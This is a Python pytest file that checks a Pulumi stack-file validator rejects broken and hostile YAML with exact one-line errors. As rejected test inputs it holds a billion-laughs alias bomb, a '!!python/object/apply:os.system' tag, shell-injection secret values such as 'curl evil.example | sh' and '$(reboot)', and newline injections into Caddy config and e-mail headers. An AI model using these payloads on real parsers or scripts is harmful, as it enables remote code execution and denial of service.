"""Broken and hostile stack files, tried as a new user would: each gets one line per problem naming the file and
the key (or line and column), the check exits 3, and nothing prints a traceback."""

from __future__ import annotations

import copy
import shutil
import subprocess
import sys

import pytest
import yaml

from components.config import build_stack_config
from conftest import ROOT
from offline.check import check_stack
from project import ProgramError, stack_config

BASE = {stack: yaml.safe_load((ROOT / f"Pulumi.{stack}.yaml").read_text()) for stack in ("mvp", "growth")}
DIGEST = "sha256:" + "a" * 64


def edit(stack: str, change) -> str:
    """The shipped stack file with one change to its config, as YAML text."""
    document = copy.deepcopy(BASE[stack])
    change(document["config"])
    return yaml.safe_dump(document, sort_keys=False)


def service(index: int, key: str, value):
    return lambda config: config["phasegate:app"]["services"][index].__setitem__(key, value)


def section(key: str, **values):
    return lambda config: config.__setitem__(f"phasegate:{key}", {**(config.get(f"phasegate:{key}") or {}), **values})


def secret(value: str):
    return lambda config: config["phasegate:app"]["services"][0]["secrets"].__setitem__("API_KEY", value)


def usage(**values):
    return section("usage", **values)


def laughs(levels: int = 9) -> str:
    """The billion laughs: each alias list holds nine of the one before, 9**levels strings in all."""
    lines = ["config:", "  aws:region: us-east-1", '  phasegate:a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", '
                                                   '"lol", "lol", "lol"]']
    lines += [f"  phasegate:a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, levels + 1)]
    return "\n".join(lines) + "\n"


HEAD = "config:\n  aws:region: us-east-1\n"
SERVICES = "phasegate:app.services"
NOT_SECRET_NAME = "is not a Secrets Manager secret name: use 1-512 letters, digits and / _ + = . @ - (no wildcards, " \
                  "spaces, quotes or ARNs)"
# (case id, stack, the stack file's text (or bytes), the exact problems reported)
CASES = [
    # --- documents the YAML parser refuses, or that are not stack files ---------------------------------------
    ("unclosed-flow", "mvp", "config:\n  phasegate:app: {name: acme\n  aws:region: us-east-1\n",
     ["Pulumi.mvp.yaml:3:13: not valid YAML: expected ',' or '}', but got ':'"]),
    ("tab-indent", "mvp", "config:\n\taws:region: us-east-1\n",
     ["Pulumi.mvp.yaml:2:1: a tab indents this line: indent with spaces (YAML does not allow tabs for indentation)"]),
    ("no-config-section", "mvp", "aws:region: us-east-1\nphasegate:phase: mvp\n",
     ["Pulumi.mvp.yaml: config: is missing; a stack file holds its settings under a top-level config: mapping "
      "(config:, then aws:region, phasegate:phase, ... indented below it)"]),
    ("usage-infinite", "mvp", edit("mvp", section("usage", gbServedPerMonth=float("inf"))),
     ["Pulumi.mvp.yaml: phasegate:usage.gbServedPerMonth: Input should be a finite number (got inf)"]),
    ("bad-indent", "mvp", "config:\n  aws:region: us-east-1\n bad: 1\n",
     ["Pulumi.mvp.yaml:3:2: not valid YAML: expected <block end>, but found '<block mapping start>'"]),
    ("document-is-a-list", "mvp", "- config\n- aws:region\n",
     ["Pulumi.mvp.yaml: the file must be a mapping with a config: section, not a list"]),
    ("document-is-a-string", "mvp", "just some text\n",
     ["Pulumi.mvp.yaml: the file must be a mapping with a config: section, not a string"]),
    ("config-is-a-list", "mvp", "config:\n  - aws:region\n  - us-east-1\n",
     ["Pulumi.mvp.yaml: config: must be a mapping of namespace:key to value, not a list"]),
    ("non-string-key", "mvp", "config:\n  42: us-east-1\n",
     ["Pulumi.mvp.yaml: config: key 42 is a number; keys are strings such as phasegate:app"]),
    ("key-without-namespace", "mvp", "config:\n  region: us-east-1\n",
     ["Pulumi.mvp.yaml: region: keys must be namespace:name, e.g. phasegate:region"]),
    ("duplicate-key", "mvp", "config:\n  aws:region: us-east-1\n  aws:region: eu-west-1\n",
     ["Pulumi.mvp.yaml:3:3: not valid YAML: key 'aws:region' is given twice"]),
    ("key-with-trailing-newline", "mvp", 'config:\n  "aws:region\\n": us-east-1\n',
     ["Pulumi.mvp.yaml: 'aws:region\\n': keys must be namespace:name, e.g. phasegate:app"]),
    # --- hostile YAML: cycles, depth, alias bombs, sizes and bytes that are not text -----------------------------
    ("alias-cycle", "mvp", HEAD + "  phasegate:x: &a [1, *a]\n",
     ["Pulumi.mvp.yaml:3:23: alias *a refers to a value that contains it (a circular reference)"]),
    ("alias-cycle-in-a-mapping", "mvp", HEAD + "  phasegate:app: &app {name: acme, again: *app}\n",
     ["Pulumi.mvp.yaml:3:43: alias *app refers to a value that contains it (a circular reference)"]),
    ("nested-3000-deep", "mvp", HEAD + "  phasegate:x: " + "[" * 3000 + "]" * 3000 + "\n",
     ["Pulumi.mvp.yaml:3:46: values are nested more than 32 levels deep; a stack file needs a handful"]),
    ("nested-3000-deep-unclosed", "mvp", HEAD + "  phasegate:x: " + "[" * 3000 + "\n",
     ["Pulumi.mvp.yaml:3:46: values are nested more than 32 levels deep; a stack file needs a handful"]),
    ("billion-laughs", "mvp", laughs(),
     ["Pulumi.mvp.yaml:8:57: alias *a4 expands the file past 2,097,152 characters of values (an alias bomb?); a "
      "stack file needs a few thousand"]),
    ("long-string-alias-bomb", "mvp", HEAD + '  a:s: &s "' + "x" * 500_000 + '"\n  a:t: [' + ", ".join(["*s"] * 9) + "]\n",
     ["Pulumi.mvp.yaml:4:21: alias *s expands the file past 2,097,152 characters of values (an alias bomb?); a stack "
      "file needs a few thousand"]),
    ("undefined-alias", "mvp", HEAD + "  phasegate:phase: *mvp\n",
     ["Pulumi.mvp.yaml:3:20: not valid YAML: found undefined alias 'mvp'"]),
    ("anchor-defined-twice", "mvp", HEAD + "  a:b: &x 1\n  a:c: &x 2\n",
     ["Pulumi.mvp.yaml:4:8: anchor &x is defined twice (first at line 3)"]),
    ("file-over-1-mib", "mvp", HEAD + "# padding\n" * 110_000,
     ["Pulumi.mvp.yaml: the file is over 1,048,576 bytes (1 MiB); a stack file is a few KB, so this is not one"]),
    ("binary-file", "mvp", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
     ["Pulumi.mvp.yaml:1:1: not UTF-8 text (byte 0x89); save the stack file as UTF-8 text (is it a binary file?)"]),
    ("latin-1-text", "mvp", (HEAD + "  phasegate:x: caf\xe9\n").encode("latin-1"),
     ["Pulumi.mvp.yaml:3:19: not UTF-8 text (byte 0xe9); save the stack file as UTF-8 text (is it a binary file?)"]),
    ("nul-character", "mvp", HEAD + "  phasegate:x: a\x00b\n",
     ["Pulumi.mvp.yaml:3:17: not valid YAML: control character #x0000 is not allowed (is it a binary file?)"]),
    ("integer-of-5000-digits", "mvp", HEAD + "  phasegate:x: " + "9" * 5000 + "\n",
     ["Pulumi.mvp.yaml:3:16: '" + "9" * 60 + "…' is too large a number for a stack file (more than 64 bits)"]),
    ("integer-over-64-bits", "mvp", HEAD + "  phasegate:x: 0x1" + "0" * 16 + "\n",
     ["Pulumi.mvp.yaml:3:16: '0x10000000000000000' is too large a number for a stack file (more than 64 bits)"]),
    ("binary-tag", "mvp", HEAD + "  phasegate:x: !!binary aGVsbG8=\n",
     ["Pulumi.mvp.yaml:3:16: tag !!binary is not a stack-file value; use text, numbers, true/false, lists and "
      "mappings"]),
    ("python-tag", "mvp", HEAD + '  phasegate:x: !!python/object/apply:os.system ["touch /tmp/pwned"]\n',
     ["Pulumi.mvp.yaml:3:16: tag !!python/object/apply:os.system is not a stack-file value; use text, numbers, "
      "true/false, lists and mappings"]),
    ("custom-tag", "mvp", HEAD + "  phasegate:x: !Ref Something\n",
     ["Pulumi.mvp.yaml:3:16: tag !Ref is not a stack-file value; use text, numbers, true/false, lists and mappings"]),
    # --- hostile secret references: they reach an IAM policy and a root shell script ---------------------------
    ("secret-wildcard", "mvp", edit("mvp", secret("*")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: '*' is not a Secrets Manager secret name: use 1-512 letters, "
      f"digits and / _ + = . @ - (no wildcards, spaces, quotes or ARNs)"]),
    ("secret-prefix-wildcard", "mvp", edit("mvp", secret("acme/*")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: 'acme/*' is not a Secrets Manager secret name: use 1-512 "
      f"letters, digits and / _ + = . @ - (no wildcards, spaces, quotes or ARNs)"]),
    ("secret-shell-injection", "mvp", edit("mvp", secret("x'; curl evil.example | sh; echo '")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: \"x'; curl evil.example | sh; echo '\" is not a Secrets "
      f"Manager secret name: use 1-512 letters, digits and / _ + = . @ - (no wildcards, spaces, quotes or ARNs)"]),
    ("secret-command-substitution", "mvp", edit("mvp", secret("$(reboot)")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: '$(reboot)' is not a Secrets Manager secret name: use 1-512 "
      f"letters, digits and / _ + = . @ - (no wildcards, spaces, quotes or ARNs)"]),
    ("secret-arn", "mvp", edit("mvp", secret("arn:aws:secretsmanager:us-east-1:123456789012:secret:x")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: 'arn:aws:secretsmanager:us-east-1:123456789012:secret:x' is "
      f"not a Secrets Manager secret name: use 1-512 letters, digits and / _ + = . @ - (no wildcards, spaces, quotes "
      f"or ARNs)"]),
    ("secret-empty", "mvp", edit("mvp", secret("")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: '' is not a Secrets Manager secret name: use 1-512 letters, "
      f"digits and / _ + = . @ - (no wildcards, spaces, quotes or ARNs)"]),
    ("secret-env-name", "mvp", edit("mvp", service(0, "secrets", {"api-key": "acme/api"})),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets: api-key: environment variable names must match [A-Z_][A-Z0-9_]*"]),
    ("secret-trailing-newline", "mvp", edit("mvp", secret("acme/api\n")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: 'acme/api\\n' {NOT_SECRET_NAME}"]),
    ("secret-question-mark", "mvp", edit("mvp", secret("acme/api-??????")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: 'acme/api-??????' {NOT_SECRET_NAME}"]),
    ("secret-env-name-trailing-newline", "mvp", edit("mvp", service(0, "secrets", {"API_KEY\n": "acme/api"})),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets: 'API_KEY\\n': environment variable names must match "
      f"[A-Z_][A-Z0-9_]*"]),
    ("env-name-with-shell", "mvp", edit("mvp", service(0, "environment", {"A;reboot": "x"})),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].environment: A;reboot: environment variable names must match "
      f"[A-Z_][A-Z0-9_]*"]),
    ("env-value-nul", "mvp", edit("mvp", service(0, "environment", {"A": "x\x00y"})),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].environment: A: an environment value cannot hold a NUL character (\\0)"]),
    # --- strict types: accepted by YAML, wrong for AWS ----------------------------------------------------------
    ("port-true", "mvp", edit("mvp", service(0, "port", True)),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].port: Input should be a valid integer (got True)"]),
    ("port-text", "mvp", edit("mvp", service(0, "port", "3000")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].port: Input should be a valid integer (got '3000')"]),
    ("port-float", "mvp", edit("mvp", service(0, "port", 3000.5)),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].port: Input should be a valid integer (got 3000.5)"]),
    ("port-out-of-range", "mvp", edit("mvp", service(0, "port", 70000)),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].port: Input should be less than or equal to 65535 (got 70000)"]),
    ("budget-true", "mvp", edit("mvp", section("billing", monthlyBudgetUsd=True)),
     ["Pulumi.mvp.yaml: phasegate:billing.monthlyBudgetUsd: Input should be a valid number (got True)"]),
    ("budget-text", "mvp", edit("mvp", section("billing", monthlyBudgetUsd="45")),
     ["Pulumi.mvp.yaml: phasegate:billing.monthlyBudgetUsd: Input should be a valid number (got '45')"]),
    ("multi-az-text", "mvp", edit("mvp", section("database", multiAz="yes")),
     ["Pulumi.mvp.yaml: phasegate:database.multiAz: Input should be a valid boolean (got 'yes')"]),
    ("replicas-zero", "growth", edit("growth", service(0, "replicas", 0)),
     [f"Pulumi.growth.yaml: {SERVICES}[0].replicas: Input should be greater than or equal to 1 (got 0)"]),
    ("usage-negative", "mvp", edit("mvp", usage(gbServedPerMonth=-1)),
     ["Pulumi.mvp.yaml: phasegate:usage.gbServedPerMonth: Input should be greater than or equal to 0 (got -1)"]),
    ("usage-text", "mvp", edit("mvp", usage(logsGbPerMonth="lots")),
     ["Pulumi.mvp.yaml: phasegate:usage.logsGbPerMonth: Input should be a valid number (got 'lots')"]),
    ("usage-missing", "mvp", edit("mvp", lambda c: c["phasegate:usage"].pop("requestsPerMonth")),
     ["Pulumi.mvp.yaml: phasegate:usage.requestsPerMonth: is required"]),
    # --- images ---------------------------------------------------------------------------------------------------
    ("image-untagged", "mvp", edit("mvp", service(0, "image", "ghcr.io/acme/web")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].image: 'ghcr.io/acme/web' must pin a tag or digest other than latest, e.g. "
      f"ghcr.io/acme/web:1.4.2"]),
    ("image-latest", "mvp", edit("mvp", service(0, "image", "nginx:latest")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].image: 'nginx:latest' must pin a tag or digest other than latest, e.g. "
      f"ghcr.io/acme/web:1.4.2"]),
    ("image-space", "mvp", edit("mvp", service(0, "image", "ghcr.io/acme/web :1.0")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].image: 'ghcr.io/acme/web :1.0' is not an image reference such as "
      f"ghcr.io/acme/web:1.4.2 or ghcr.io/acme/web@sha256:<64 hex digits>"]),
    ("image-empty-digest", "mvp", edit("mvp", service(0, "image", "ghcr.io/acme/web@sha256:")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].image: 'ghcr.io/acme/web@sha256:' is not an image reference such as "
      f"ghcr.io/acme/web:1.4.2 or ghcr.io/acme/web@sha256:<64 hex digits>"]),
    ("image-upper-case", "mvp", edit("mvp", service(0, "image", "ghcr.io/Acme/web:1.0")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].image: 'ghcr.io/Acme/web:1.0' is not an image reference such as "
      f"ghcr.io/acme/web:1.4.2 or ghcr.io/acme/web@sha256:<64 hex digits>"]),
    ("image-shell", "mvp", edit("mvp", service(0, "image", "web:1;reboot")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].image: 'web:1;reboot' is not an image reference such as "
      f"ghcr.io/acme/web:1.4.2 or ghcr.io/acme/web@sha256:<64 hex digits>"]),
    ("image-trailing-newline", "mvp", edit("mvp", service(0, "image", "ghcr.io/acme/web:1.4.2\n")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].image: 'ghcr.io/acme/web:1.4.2\\n' is not an image reference such as "
      f"ghcr.io/acme/web:1.4.2 or ghcr.io/acme/web@sha256:<64 hex digits>"]),
    # --- names, paths and sizes that break the deployment ----------------------------------------------------------
    ("service-named-proxy", "mvp", edit("mvp", service(1, "name", "proxy")),
     [f"Pulumi.mvp.yaml: {SERVICES}[1].name: 'proxy' is reserved for the reverse proxy phasegate runs in front of "
      f"the app; choose another service name"]),
    ("service-name-upper", "mvp", edit("mvp", service(0, "name", "Web")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].name: 'Web' must be 2-32 characters of lower-case letters, digits and "
      f"hyphens, starting with a letter"]),
    ("health-path-space", "mvp", edit("mvp", service(0, "healthCheckPath", "/health check")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].healthCheckPath: '/health check' is not a health-check path: start with / and "
      f"use only letters, digits and / - . _ ~ % : @ + = & ? (no spaces, quotes or braces)"]),
    ("path-prefix-brace", "mvp", edit("mvp", service(1, "pathPrefix", "/api}")),
     [f"Pulumi.mvp.yaml: {SERVICES}[1].pathPrefix: '/api}}' is not a URL path prefix: start with / and use only "
      f"letters, digits and / - . _ ~ % (no spaces, quotes or braces)"]),
    # A trailing newline passed every check matched with re.match(...$): it broke the Caddyfile's lines.
    ("service-name-trailing-newline", "mvp", edit("mvp", service(1, "name", "api\n")),
     [f"Pulumi.mvp.yaml: {SERVICES}[1].name: 'api\\n' must be 2-32 characters of lower-case letters, digits and "
      f"hyphens, starting with a letter"]),
    ("app-name-trailing-newline", "mvp", edit("mvp", lambda c: c["phasegate:app"].__setitem__("name", "acme\n")),
     ["Pulumi.mvp.yaml: phasegate:app.name: 'acme\\n' must be 2-32 characters of lower-case letters, digits and "
      "hyphens, starting with a letter"]),
    ("path-prefix-trailing-newline", "mvp", edit("mvp", service(1, "pathPrefix", "/api\n")),
     [f"Pulumi.mvp.yaml: {SERVICES}[1].pathPrefix: '/api\\n' is not a URL path prefix: start with / and use only "
      f"letters, digits and / - . _ ~ % (no spaces, quotes or braces)"]),
    ("path-prefix-double-slash", "mvp", edit("mvp", service(1, "pathPrefix", "//")),
     [f"Pulumi.mvp.yaml: {SERVICES}[1].pathPrefix: '//' is not a URL path prefix: it has an empty or dot segment "
      f"(//, /./ or /../)"]),
    ("path-prefix-dot-dot", "mvp", edit("mvp", service(1, "pathPrefix", "/api/../admin")),
     [f"Pulumi.mvp.yaml: {SERVICES}[1].pathPrefix: '/api/../admin' is not a URL path prefix: it has an empty or dot "
      f"segment (//, /./ or /../)"]),
    ("health-path-trailing-newline", "mvp", edit("mvp", service(0, "healthCheckPath", "/health\n")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].healthCheckPath: '/health\\n' is not a health-check path: start with / and "
      f"use only letters, digits and / - . _ ~ % : @ + = & ? (no spaces, quotes or braces)"]),
    ("k3s-version-trailing-newline", "growth", edit("growth", section("compute", version="v1.31.4+k3s1\n")),
     ["Pulumi.growth.yaml: phasegate:compute.version: String should match pattern '^v1\\.\\d+\\.\\d+\\+k3s\\d+$' "
      "(got 'v1.31.4+k3s1\\n')"]),
    ("db-name-trailing-newline", "mvp", edit("mvp", section("database", dbName="app\n")),
     ["Pulumi.mvp.yaml: phasegate:database.dbName: String should match pattern '^[a-z][a-z0-9_]{0,62}$' "
      "(got 'app\\n')"]),
    ("cpu-bigger-than-host", "mvp", edit("mvp", service(0, "cpu", 4)),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].cpu: 4 vCPUs is more than any compose node can give one container (the "
      f"largest, t3.small, has 2); lower it or choose larger instance types in phasegate:compute"]),
    ("memory-bigger-than-nodes", "growth", edit("growth", service(1, "memoryMb", 3072)),
     [f"Pulumi.growth.yaml: {SERVICES}[1].memoryMb: 3072 MiB is more than any k3s node can give one container (the "
      f"largest, t3.small, has 2 GiB); lower it or choose larger instance types in phasegate:compute"]),
    ("user-data-too-big", "mvp",
     edit("mvp", service(0, "environment", {f"SETTING_{i}": "x" * 300 for i in range(60)})),
     [f"Pulumi.mvp.yaml: {SERVICES}: the compose host's boot script would be 33,934 bytes, over EC2's 16,384-byte "
      f"user-data limit; the largest parts: services[0].environment (25,504 bytes), services[0].secrets (248 bytes), "
      f"services[1].secrets (236 bytes); move big values into Secrets Manager (secrets) or the image, or split "
      f"services"]),
    ("engine-version-99", "mvp", edit("mvp", section("database", engineVersion="99")),
     ["Pulumi.mvp.yaml: phasegate:database.engineVersion: PostgreSQL 99 is not a version RDS offers; use one of 14, "
      "15, 16, 17, 18"]),
    ("engine-version-13", "mvp", edit("mvp", section("database", engineVersion="13")),
     ["Pulumi.mvp.yaml: phasegate:database.engineVersion: PostgreSQL 13 is past end of standard support on RDS; use "
      "one of 14, 15, 16, 17, 18"]),
    ("engine-version-text", "mvp", edit("mvp", section("database", engineVersion="latest")),
     ["Pulumi.mvp.yaml: phasegate:database.engineVersion: 'latest' is not a PostgreSQL version such as 17 or 17.4"]),
    ("engine-version-int-99", "mvp", edit("mvp", section("database", engineVersion=99)),
     ["Pulumi.mvp.yaml: phasegate:database.engineVersion: PostgreSQL 99 is not a version RDS offers; use one of 14, "
      "15, 16, 17, 18"]),
    ("engine-version-int-13", "mvp", edit("mvp", section("database", engineVersion=13)),
     ["Pulumi.mvp.yaml: phasegate:database.engineVersion: PostgreSQL 13 is past end of standard support on RDS; use "
      "one of 14, 15, 16, 17, 18"]),
    ("engine-version-true", "mvp", edit("mvp", section("database", engineVersion=True)),
     ["Pulumi.mvp.yaml: phasegate:database.engineVersion: Input should be a valid string (got True)"]),
    ("engine-version-float", "mvp", edit("mvp", section("database", engineVersion=17.4)),
     ["Pulumi.mvp.yaml: phasegate:database.engineVersion: 17.4 is a number, and a number cannot hold a minor version "
      "exactly (17.10 would read as 17.1); write the version in quotes, e.g. '17.4', or the major alone, e.g. 17"]),
    ("engine-version-other-digits", "mvp", edit("mvp", section("database", engineVersion="\u0661\u0667")),
     ["Pulumi.mvp.yaml: phasegate:database.engineVersion: '\u0661\u0667' is not a PostgreSQL version such as 17 or "
      "17.4"]),
    ("engine-version-trailing-newline", "mvp", edit("mvp", section("database", engineVersion="17\n")),
     ["Pulumi.mvp.yaml: phasegate:database.engineVersion: '17\\n' is not a PostgreSQL version such as 17 or 17.4"]),
    ("k3s-pods-overlap-vpc", "growth", edit("growth", section("compute", clusterCidr="10.0.0.0/16")),
     ["Pulumi.growth.yaml: phasegate:compute.clusterCidr: 10.0.0.0/16 overlaps the VPC 10.0.0.0/16 "
      "(phasegate:network.cidr): pods or services would shadow real hosts; choose a range outside it"]),
    ("k3s-services-overlap-pods", "growth",
     edit("growth", section("compute", clusterCidr="172.20.0.0/16", serviceCidr="172.20.128.0/20")),
     ["Pulumi.growth.yaml: phasegate:compute.serviceCidr: 172.20.128.0/20 overlaps clusterCidr 172.20.0.0/16: K3s "
      "needs two separate ranges"]),
    ("budget-threshold-above-100", "mvp", edit("mvp", section("billing", actualThresholdsPercent=[50, 80, 120])),
     ["Pulumi.mvp.yaml: phasegate:billing.actualThresholdsPercent[2]: Input should be less than or equal to 100 "
      "(got 120)"]),
    ("charges-alarm-above-budget", "mvp", edit("mvp", section("billing", estimatedChargesAlarmUsd=5000)),
     ["Pulumi.mvp.yaml: phasegate:billing.estimatedChargesAlarmUsd: $5000 is above the $45 budget: the alarm would "
      "fire only after the month's budget is spent; use at most 45"]),
    # --- keys and values that do not exist -------------------------------------------------------------------------
    ("unknown-phase", "mvp", edit("mvp", lambda c: c.__setitem__("phasegate:phase", "staging")),
     ["Pulumi.mvp.yaml: phasegate:phase: 'staging' is not a phase; use one of mvp, growth, production"]),
    ("runtime-of-another-phase", "mvp", edit("mvp", section("compute", runtime="k3s")),
     ["Pulumi.mvp.yaml: phasegate:compute.runtime: 'k3s' does not run in the mvp phase; use compose, fargate or lambda"]),
    ("moved-section", "growth", edit("growth", lambda c: c.__setitem__("phasegate:k3s", {"agentCount": 2})),
     ["Pulumi.growth.yaml: phasegate:k3s: this section moved; put its keys under phasegate:compute with runtime: k3s"]),
    ("unknown-db-class", "mvp", edit("mvp", section("database", instanceClass="db.z9.mega")),
     ["Pulumi.mvp.yaml: phasegate:database.instanceClass: 'db.z9.mega' has no price for us-east-1, so its cost "
      "cannot be checked; there is no db.z9 family in it"]),
    ("ec2-type-not-db", "mvp", edit("mvp", section("database", instanceClass="t3.small")),
     ["Pulumi.mvp.yaml: phasegate:database.instanceClass: 't3.small' is not a db.* type"]),
    ("unknown-cache-size", "growth", edit("growth", section("cache", nodeType="cache.t4g.mega")),
     ["Pulumi.growth.yaml: phasegate:cache.nodeType: 'cache.t4g.mega' is not a cache.t4g size in us-west-2; sizes: "
      "micro, small, medium"]),
    # Sizes the catalog does not list: the pack would derive a price from the family's rate; a stack file may not.
    ("made-up-m7i-size", "mvp", edit("mvp", section("compute", instanceType="m7i.3xlarge")),
     ["Pulumi.mvp.yaml: phasegate:compute.instanceType: 'm7i.3xlarge' is not an m7i size in us-east-1; sizes: "
      "large, xlarge, 2xlarge, 4xlarge, 8xlarge, 12xlarge, 16xlarge, 24xlarge, 48xlarge, metal-24xl, metal-48xl"]),
    ("made-up-t3-size", "mvp", edit("mvp", section("compute", instanceType="t3.3xlarge")),
     ["Pulumi.mvp.yaml: phasegate:compute.instanceType: 't3.3xlarge' is not a t3 size in us-east-1; sizes: nano, "
      "micro, small, medium, large, xlarge, 2xlarge"]),
    ("made-up-db-size", "mvp", edit("mvp", section("database", instanceClass="db.t4g.3xlarge")),
     ["Pulumi.mvp.yaml: phasegate:database.instanceClass: 'db.t4g.3xlarge' is not a db.t4g size in us-east-1; "
      "sizes: micro, small, medium, large, xlarge, 2xlarge"]),
    ("made-up-cache-size", "growth", edit("growth", section("cache", nodeType="cache.t4g.3xlarge")),
     ["Pulumi.growth.yaml: phasegate:cache.nodeType: 'cache.t4g.3xlarge' is not a cache.t4g size in us-west-2; "
      "sizes: micro, small, medium"]),
    ("made-up-k3s-agent-size", "growth", edit("growth", section("compute", agentInstanceType="t3.3xlarge")),
     ["Pulumi.growth.yaml: phasegate:compute.agentInstanceType: 't3.3xlarge' is not a t3 size in us-west-2; sizes: "
      "nano, micro, small, medium, large, xlarge, 2xlarge"]),
    ("typo-in-key", "mvp", edit("mvp", section("alerts", hostCpuPercnt=90)),
     ["Pulumi.mvp.yaml: phasegate:alerts.hostCpuPercnt: unknown key; allowed keys here: alb5xxPercent, "
      "cacheMemoryPercent, dbConnectionsPercent, dbCpuPercent, dbFreeStorageGb, emails, hostCpuPercent, "
      "hostDiskPercent, hostMemoryPercent, triggerCpuPercent, triggerHours, triggerMemoryPercent, "
      "triggerRequestsPerDay"]),
    ("app-not-a-mapping", "mvp", edit("mvp", lambda c: c.__setitem__("phasegate:app", ["web"])),
     ["Pulumi.mvp.yaml: phasegate:app: Input should be a valid dictionary or instance of App"]),
    ("public-vpc-range", "mvp", edit("mvp", section("network", cidr="8.8.0.0/16")),
     ["Pulumi.mvp.yaml: phasegate:network.cidr: 8.8.0.0/16 is not a private range; use one inside 10.0.0.0/8, "
      "172.16.0.0/12 or 192.168.0.0/16"]),
    ("domain-with-space", "mvp", edit("mvp", lambda c: c["phasegate:app"].__setitem__("domain", "app .acme.example")),
     ["Pulumi.mvp.yaml: phasegate:app.domain: 'app .acme.example' is not a lower-case DNS name such as app.example.com"]),
    ("domain-trailing-newline", "mvp",
     edit("mvp", lambda c: c["phasegate:app"].__setitem__("domain", "app.acme.example\n")),
     ["Pulumi.mvp.yaml: phasegate:app.domain: 'app.acme.example\\n' is not a lower-case DNS name such as "
      "app.example.com"]),
    ("domain-caddy-block", "mvp",
     edit("mvp", lambda c: c["phasegate:app"].__setitem__("domain", "app.acme.example {\n}\n:2019")),
     ["Pulumi.mvp.yaml: phasegate:app.domain: 'app.acme.example {\\n}\\n:2019' is not a lower-case DNS name such as "
      "app.example.com"]),
    ("domain-all-digits", "mvp", edit("mvp", lambda c: c["phasegate:app"].__setitem__("domain", "10.0.0.1")),
     ["Pulumi.mvp.yaml: phasegate:app.domain: '10.0.0.1' is not a lower-case DNS name such as app.example.com"]),
    ("hosted-zone-trailing-newline", "mvp", edit("mvp", lambda c: c["phasegate:app"].update(
        domain="app.acme.example", hostedZone="acme.example\n")),
     ["Pulumi.mvp.yaml: phasegate:app.hostedZone: 'acme.example\\n' is not a lower-case DNS name such as "
      "app.example.com"]),
    ("email-trailing-newline", "mvp", edit("mvp", section("alerts", emails=["ops@acme.example\n"])),
     ["Pulumi.mvp.yaml: phasegate:alerts.emails[0]: 'ops@acme.example\\n' is not an e-mail address such as "
      "ops@example.com"]),
    ("vpc-cidr-trailing-newline", "mvp", edit("mvp", section("network", cidr="10.0.0.0/16\n")),
     ["Pulumi.mvp.yaml: phasegate:network.cidr: '10.0.0.0/16\\n' is not an IPv4 network in CIDR notation such as "
      "10.0.0.0/16 ('16\\n' is not a valid netmask)"]),
    ("vpc-over-dockers-networks", "mvp", edit("mvp", section("network", cidr="172.17.0.0/16")),
     ["Pulumi.mvp.yaml: phasegate:network.cidr: 172.17.0.0/16 overlaps Docker's networks on the compose host "
      "(172.17.0.0/16): containers could not reach the database; use a range in 10.0.0.0/8, e.g. 10.0.0.0/16"]),
    ("vpc-over-dockers-pools", "mvp", edit("mvp", section("network", cidr="192.168.0.0/20")),
     ["Pulumi.mvp.yaml: phasegate:network.cidr: 192.168.0.0/20 overlaps Docker's networks on the compose host "
      "(192.168.0.0/16): containers could not reach the database; use a range in 10.0.0.0/8, e.g. 10.0.0.0/16"]),
    ("both-5xx-spellings", "mvp", edit("mvp", section("alerts", alb5xxPercent=2, alb5XxPercent=3)),
     ["Pulumi.mvp.yaml: phasegate:alerts.alb5xxPercent: given twice, as alb5xxPercent and alb5XxPercent; keep one"]),
    ("email-with-newline", "mvp", edit("mvp", section("alerts", emails=["ops@acme.example\nBcc: x@y.z"])),
     ["Pulumi.mvp.yaml: phasegate:alerts.emails[0]: 'ops@acme.example\\nBcc: x@y.z' is not an e-mail address such "
      "as ops@example.com"]),
]


def write(path, text) -> None:
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")


def problems_of(tmp_path, stack: str, text) -> list[str]:
    """What `./dev check <stack>` reports for this stack file: the file's problems, or the config's."""
    write(tmp_path / f"Pulumi.{stack}.yaml", text)
    try:
        config = stack_config(stack, tmp_path)
    except ProgramError as exc:
        return exc.messages
    return check_stack(stack, config=config).errors


@pytest.mark.parametrize("stack, text, expected", [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_a_broken_stack_file_gets_exactly_its_problems(tmp_path, stack, text, expected):
    reported = problems_of(tmp_path, stack, text)
    assert reported == expected
    assert not any("Traceback" in line or "\n" in line.replace("\\n", "") for line in reported)


def test_the_table_covers_at_least_fifty_broken_files():
    assert len(CASES) >= 50 and len({case[0] for case in CASES}) == len(CASES)


def test_both_spellings_of_the_5xx_threshold_are_accepted(tmp_path):
    for spelling in ("alb5xxPercent", "alb5XxPercent"):
        assert problems_of(tmp_path, "growth", edit("growth", section("alerts", **{spelling: 2}))) == []


@pytest.fixture(scope="module")
def project_copy(tmp_path_factory):
